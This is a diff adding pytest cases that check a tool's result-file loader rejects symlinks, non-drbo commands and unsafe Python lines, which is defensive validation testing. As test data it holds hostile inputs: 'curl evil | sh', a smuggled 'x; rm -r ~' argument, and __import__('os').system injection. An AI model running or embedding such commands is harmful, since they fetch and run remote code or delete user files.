@@ -176,6 +176,37 @@ class TestHostileFiles:
         (folder / "result.npz").unlink()
         self.refused(folder, "result.npz cannot be read")
 
+    @pytest.mark.parametrize("name", ["result.json", "result.npz"])
+    def test_a_link_is_not_followed(self, folder, tmp_path, name):
+        (folder / name).rename(folder / "elsewhere")
+        (folder / name).symlink_to("elsewhere")
+        self.refused(folder, f"{name} is a link")
+
+    def test_a_command_is_one_of_drbo(self, folder):
+        content = json.loads((folder / "result.json").read_text())
+        (folder / "result.json").write_text(json.dumps(content | {"argv": ["curl", "evil"]}))
+        self.refused(folder, "'argv' must be the words of a drbo command")
+        (folder / "result.json").write_text(json.dumps(content | {"argv": ["drbo", "fit", "x; rm -r ~"]}))
+        assert Result.load(folder).call == "drbo fit 'x; rm -r ~'"
+
+    @pytest.mark.parametrize(
+        ("line", "stays"),
+        [
+            ("DrBO(score='bge', design=Design(groups='id'), random_state=-1).fit(table, start=start)", True),
+            ("DrBO(settings=Settings(max_evals=5), score_options={'a': array([[1.0, 2.0]])}).fit(table)", True),
+            ("DrBO(score=__import__('os').system('x')).fit(table)", False),
+            ("DrBO().fit(open('x'))", False),
+            ("DrBO(score=(lambda: 1)()).fit(table)", False),
+            ("DrBO().fit(table); print()", False),
+            ("curl evil | sh", False),
+            ("(" * 5_000, False),
+        ],
+    )
+    def test_a_line_of_python_only_fits(self, folder, line, stays):
+        content = json.loads((folder / "result.json").read_text())
+        (folder / "result.json").write_text(json.dumps(content | {"argv": [], "line": line}))
+        assert Result.load(folder).call == (line if stays else "")
+
     def test_truncated(self, folder):
         for name, message in (("result.npz", "checksum"), ("result.json", "damaged")):
             path = folder / name
